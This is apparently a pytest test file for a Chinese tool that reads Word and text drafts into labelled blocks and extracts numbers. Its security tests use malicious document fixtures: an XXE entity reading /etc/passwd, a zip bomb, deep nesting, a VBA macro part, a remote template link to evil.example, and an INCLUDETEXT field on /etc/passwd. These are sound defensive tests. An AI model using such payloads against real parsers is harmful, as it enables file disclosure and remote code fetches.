"""Drafts are read as blocks; what is no draft, or means harm, is refused in words."""

import zipfile
from pathlib import Path

import docx
import pytest

from bihuan.base.errors import Invalid
from bihuan.report.number_check import find_numbers, read_docx, read_text


def test_paragraphs_and_cells_in_the_order_of_reading(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("全县受理投诉12件。")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "投资", "3.2亿元"
    document.add_paragraph("办结率98%。")
    path = tmp_path / "稿.docx"
    document.save(str(path))
    blocks = read_docx(path, "稿.docx")
    assert [(block.label, block.text) for block in blocks] == [
        ("第1段", "全县受理投诉12件。"),
        ("表1第1行第1列", "投资"),
        ("表1第1行第2列", "3.2亿元"),
        ("第2段", "办结率98%。"),
    ]
    assert [number.text for number in find_numbers(blocks)] == ["12件", "3.2亿元", "98%"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_text_files(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "稿.txt"
    path.write_bytes("一、总体情况\n\n受理投诉12件。".encode(encoding))
    assert [(b.index, b.label, b.text) for b in read_text(path, "稿.txt")] == [
        (0, "第1行", "一、总体情况"),
        (1, "第3行", "受理投诉12件。"),
    ]


def _package(path: Path, document: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", document)
    return path


def test_an_entity_is_refused(tmp_path: Path) -> None:
    attack = b'<!DOCTYPE a [<!ENTITY x SYSTEM "/etc/passwd">]><w:document>&x;</w:document>'
    with pytest.raises(Invalid, match="DOCTYPE"):
        read_docx(_package(tmp_path / "a.docx", attack), "a.docx")


def test_a_bomb_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match="压缩炸弹"):
        read_docx(_package(tmp_path / "a.docx", b" " * 100 * 1024**2), "a.docx")


def test_deep_nesting_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match="已损坏"):
        read_docx(_package(tmp_path / "a.docx", b"<a>" * 5_000 + b"</a>" * 5_000), "a.docx")


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04junk", b"plain text"])
def test_what_is_no_document_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(content)
    with pytest.raises(Invalid):
        read_docx(path, "a.docx")


def test_binary_is_no_text(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_bytes(bytes(range(256)))
    with pytest.raises(Invalid, match="不是 UTF-8 或 GB18030"):
        read_text(path, "a.txt")


_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
_FIELD = (
    b'<w:f xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:f>'
)


@pytest.mark.parametrize(
    ("part", "content", "said"),
    [
        ("word/vbaProject.bin", b"MZ", "程序或嵌入对象"),
        ("word/_rels/document.xml.rels", _TEMPLATE, "从外部取内容的链接"),
        ("word/footnotes.xml", _FIELD, "从外部取内容的域"),
    ],
)
def test_programs_and_what_fetches_are_refused(tmp_path: Path, part: str, content: bytes, said: str) -> None:
    path = tmp_path / "稿.docx"
    document = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", document)
        archive.writestr(part, content)
    with pytest.raises(Invalid, match=said):
        read_docx(path, "稿.docx")
